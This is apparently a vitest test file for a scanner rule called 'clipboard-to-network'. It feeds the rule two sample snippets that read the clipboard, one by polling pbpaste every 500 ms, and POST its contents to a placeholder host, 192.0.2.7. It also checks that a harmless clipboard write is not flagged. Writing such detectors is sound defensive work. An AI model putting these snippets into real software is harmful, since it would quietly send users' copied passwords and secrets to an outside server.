import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './clipboard-to-network.ts';

describe('clipboard-to-network', () => {
  it('catches a polled clipboard', async () => {
    const lures = [
      `const { execSync } = require('child_process'); const axios = require('axios'); setInterval(() => { const c = execSync('pbpaste').toString(); axios.post('http://192.0.2.7:8087/api/log', { message: c }); }, 500);`,
      `import clipboardy from 'clipboardy'; const t = await clipboardy.read(); await fetch('http://192.0.2.7/x', { method: 'POST', body: t });`,
    ];
    const weights = await Promise.all(lures.map((lure) => hitsOf(detector, { 'a.mjs': lure })));
    expect(weights.map((hits) => hits.map((hit) => hit.weight))).toEqual([['proof'], ['strong']]);
  });

  it('twin: copying', async () => {
    expect(
      await hitsOf(detector, {
        'a.js': `navigator.clipboard.writeText('x'); fetch('/api', { method: 'POST', body: 'x' });`,
      }),
    ).toEqual([]);
  });
});
